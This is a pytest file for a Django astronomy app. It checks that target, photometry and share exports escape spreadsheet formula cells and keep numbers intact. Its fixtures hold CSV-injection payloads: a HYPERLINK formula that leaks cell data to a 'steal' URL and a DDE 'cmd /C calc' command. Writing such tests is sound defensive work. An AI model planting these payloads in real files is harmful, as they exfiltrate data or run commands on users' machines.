"""Exports are safe to open in a spreadsheet (issue 11, item 4).

A peer plants formula cells (through the API, as any peer or stream can); every CSV/ECSV we write must
have no text cell a spreadsheet would run, numbers must stay numbers, and our own target export must
import back unchanged.
"""
from __future__ import annotations

import base64
import csv
import io

import pytest
from astropy.table import Table
from django.test import Client
from django.urls import reverse

from core.spreadsheet import FORMULA_TRIGGERS, restore_cell, safe_cell
from targets.models import Target

# Generated, not stored: what a hostile peer or stream puts in names, extras and photometry columns.
LINK = '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"Click for details")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = {
    "name": LINK,
    "aliases": ["@SUM(1+1)*HYPERLINK(A1)", "AT 2025ok", "+1+HYPERLINK(A2)"],  # no | or ;: they split aliases
    "extras": {"=1+1": DDE, "offset": "-12.5", "note": "\t=1+1", "plus": "+2", "cr": "\r=2+3", "dash": "-"},
}
PHOTOMETRY = [  # bandpass <= 32 characters, as the columns allow
    {"bandpass": "=1+1", "telescope": DDE, "instrument": "-2+3", "source_name": "@SUM(A1:A9)", "unit": "+1+1",
     "brightness": -12.5, "brightness_error": 0.05},
    {"bandpass": "g", "telescope": "LCO", "instrument": "\t=1+1", "source_name": "\r=1+1", "unit": "AB mag",
     "brightness": 18.25, "brightness_error": 0.1},
]


def peer() -> Client:
    return Client(headers={"Authorization": "Basic " + base64.b64encode(b"root:pw-root").decode()})


@pytest.fixture
def planted(users):
    """A target and its photometry, created through the API with formula cells everywhere they fit."""
    body = {"name": HOSTILE["name"], "type": "SIDEREAL", "ra": 10.0, "dec": -12.5,
            "aliases": [{"name": a} for a in HOSTILE["aliases"]],
            "targetextra_set": [{"key": k, "value": v} for k, v in HOSTILE["extras"].items()]}
    response = peer().post("/api/targets/", body, content_type="application/json")
    assert response.status_code == 201, response.content
    target = Target.objects.get(pk=response.json()["id"])
    datums = [{"data_type": "photometry", "timestamp": f"2025-01-0{i + 1}T00:00:00", "value": value}
              for i, value in enumerate(PHOTOMETRY)]
    response = peer().post("/api/reduceddatums/bulk/", {"target": target.pk, "datums": datums},
                           content_type="application/json")
    assert response.json()["created"] == 2, response.content
    return target


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS) or safe_cell(cell) == cell, f"live formula cell {cell!r}"


def download(response) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def test_the_target_csv_export_has_no_formula_cell_and_keeps_numbers(client_for, planted):
    rows = cells_of(download(client_for("superuser").get(reverse("targets:export"))))
    assert_no_formula(rows)
    record = dict(zip(rows[0], rows[1]))
    assert record["name"] == "'" + LINK
    assert record["dec"] == "-12.5" and record["offset"] == "-12.5" and record["plus"] == "+2"  # numbers stay
    assert record["'=1+1"] == "'" + DDE  # an extra's key is a header cell
    assert record["aliases"].split(";") == ["'" + a if a[0] in "@+" else a for a in HOSTILE["aliases"]]
    assert record["dash"] == "'-" and record["note"] == "'\t=1+1" and record["cr"] == "'\r=2+3"


def test_the_target_export_imports_back_unchanged(client_for, planted):
    client = client_for("superuser")
    exported = download(client.get(reverse("targets:export")))
    before = (planted.name, planted.alias_names(), {e.key: e.value for e in planted.extras.all()}, planted.dec)
    planted.delete()
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = client.post(reverse("targets:import"),
                           {"file": SimpleUploadedFile("targets.csv", exported.encode(), "text/csv")})
    assert response.status_code == 302, response.context["report"].errors
    again = Target.objects.get()
    # the importer strips what it reads (as before): the tab/CR-led extras come back without them
    expected_extras = {k: v.strip() for k, v in before[2].items()}
    assert (again.name, again.alias_names(), {e.key: e.value for e in again.extras.all()}, again.dec) == (
        before[0], before[1], expected_extras, before[3])


def test_the_photometry_csv_export_has_no_formula_cell(client_for, planted):
    text = download(client_for("superuser").get(reverse("dataproducts:export-photometry", args=[planted.pk, "csv"])))
    rows = cells_of(text)
    assert_no_formula(rows)
    first = dict(zip(rows[0], rows[1]))
    assert (first["bandpass"], first["telescope"], first["instrument"]) == ("'=1+1", "'" + DDE, "'-2+3")
    assert first["brightness"] == "-12.5"


def test_the_photometry_ecsv_reads_back_with_its_types(client_for, planted):
    text = download(client_for("superuser").get(reverse("dataproducts:export-photometry", args=[planted.pk, "ecsv"])))
    assert_no_formula(cells_of("\n".join(line for line in text.splitlines() if not line.startswith("#"))))
    table = Table.read(text, format="ascii.ecsv")
    assert table["brightness"].dtype.kind == "f" and list(table["brightness"]) == [-12.5, 18.25]
    assert list(table["bandpass"]) == ["'=1+1", "g"]
    assert [restore_cell(s) for s in table["source_name"]] == ["@SUM(A1:A9)", "=1+1"]  # stripped on ingest


def test_the_share_download_has_no_formula_cell(client_for, planted):
    response = client_for("superuser").post(reverse("sharing:download", args=[planted.pk]), {"scope": "matching"})
    rows = cells_of(download(response))
    assert_no_formula(rows)
    assert [dict(zip(rows[0], r))["brightness"] for r in rows[1:]] == ["-12.5", "18.25"]


@pytest.mark.parametrize("value,written", [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-12.5", "-12.5"), ("-1e-3", "-1e-3"), ("+.5", "+.5"), ("-", "'-"),
    ("@x", "'@x"), ("\t1", "'\t1"), ("\r1", "'\r1"), ("-1-1", "'-1-1"), ("1+1", "1+1"), ("", ""),
    ("'=x", "''=x"), ("'x", "'x"), (-3.5, -3.5), (None, None), ("-inf", "'-inf"), ("- 1", "'- 1"),
])
def test_safe_cell_guards_text_and_leaves_numbers(value, written):
    assert safe_cell(value) == written
    if isinstance(value, str):
        assert restore_cell(safe_cell(value)) == value
